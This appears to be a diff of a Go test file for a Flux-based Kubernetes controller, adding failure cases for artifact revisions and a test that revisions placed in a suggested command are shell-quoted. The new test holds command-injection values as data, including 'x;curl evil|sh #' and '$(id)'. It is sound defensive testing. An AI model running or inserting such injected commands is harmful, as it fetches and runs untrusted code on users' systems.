@@ -14,6 +14,7 @@ import (
 	"time"
 
 	fluxmeta "github.com/fluxcd/pkg/apis/meta"
+	"github.com/fluxcd/pkg/runtime/conditions"
 	sourcev1 "github.com/fluxcd/source-controller/api/v1"
 	"github.com/google/go-cmp/cmp"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
@@ -181,11 +182,12 @@ func TestWhatKeepsAnArtifactFromBeingHad(t *testing.T) {
 			object: repository(artifact("r")), fetch: fluxsource.ErrDigest, want: "False ArtifactFailed Reconciling", after: artifactRetry,
 			words: []string{"fetching the artifact of GitRepository ci/pools: digest does not match"},
 		},
-		"source-controller is away":       {object: repository(artifact("r")), fetch: fluxsource.ErrUnavailable, want: "False ArtifactFailed Reconciling", after: artifactRetry},
-		"source-controller hangs":         {object: repository(artifact("r")), fetch: fluxsource.ErrTimeout, want: "False ArtifactFailed Reconciling", words: []string{"spec.timeout is 1m0s"}, after: artifactRetry},
-		"it is too large":                 {object: repository(artifact("r")), fetch: fluxsource.ErrTooLarge, want: "False ArtifactFailed Stalled", words: []string{"Nothing of revision r was applied"}, after: 10 * time.Minute},
-		"it is no archive":                {object: repository(artifact("r")), fetch: fluxsource.ErrUnusable, want: "False ArtifactFailed Stalled", after: 10 * time.Minute},
-		"its revision is without measure": {object: repository(long), want: "False ArtifactFailed Stalled", words: []string{"512"}, after: 10 * time.Minute},
+		"source-controller is away":        {object: repository(artifact("r")), fetch: fluxsource.ErrUnavailable, want: "False ArtifactFailed Reconciling", after: artifactRetry},
+		"source-controller hangs":          {object: repository(artifact("r")), fetch: fluxsource.ErrTimeout, want: "False ArtifactFailed Reconciling", words: []string{"spec.timeout is 1m0s"}, after: artifactRetry},
+		"it is too large":                  {object: repository(artifact("r")), fetch: fluxsource.ErrTooLarge, want: "False ArtifactFailed Stalled", words: []string{"Nothing of revision r was applied"}, after: 10 * time.Minute},
+		"it is no archive":                 {object: repository(artifact("r")), fetch: fluxsource.ErrUnusable, want: "False ArtifactFailed Stalled", after: 10 * time.Minute},
+		"its revision is more than a line": {object: repository(artifact("main\n@sha1:1")), want: "False ArtifactFailed Stalled", words: []string{`"main\n@sha1:1"`}, after: 10 * time.Minute},
+		"its revision is without measure":  {object: repository(long), want: "False ArtifactFailed Stalled", words: []string{"512"}, after: 10 * time.Minute},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -201,6 +203,28 @@ func TestWhatKeepsAnArtifactFromBeingHad(t *testing.T) {
 				t.Errorf("looks again after %s, want %s", result.RequeueAfter, tc.after)
 			}
 		})
+	}
+}
+
+// The revision is whatever the maker of an ExternalArtifact writes, and stands in a command to be copied.
+func TestARevisionIsOneWordOfACommand(t *testing.T) {
+	for revision, word := range map[string]string{
+		"v1.2.0+a@sha256:0123":  "v1.2.0+a@sha256:0123",
+		"x;curl evil|sh #":      "'x;curl evil|sh #'",
+		"it's$(id)@sha1:0123":   `'it'\''s$(id)@sha1:0123'`,
+		"feature/a&b@sha1:0123": "'feature/a&b@sha1:0123'",
+	} {
+		w := newFluxWorld(t, repository(nil), ofFlux())
+		w.push("first", pool("a"))
+		w.stock(artifact("first"))
+		w.reconcile()
+		w.push(revision, pool("b"))
+		w.stock(artifact(revision))
+		w.reconcile()
+		w.expectReady("False PruneRefused Stalled", v1alpha1.AllowPruneAnnotation+"="+word)
+		if message := conditions.GetMessage(w.source(), v1alpha1.ReadyCondition); !strings.HasSuffix(message, word) {
+			t.Error(message)
+		}
 	}
 }
 
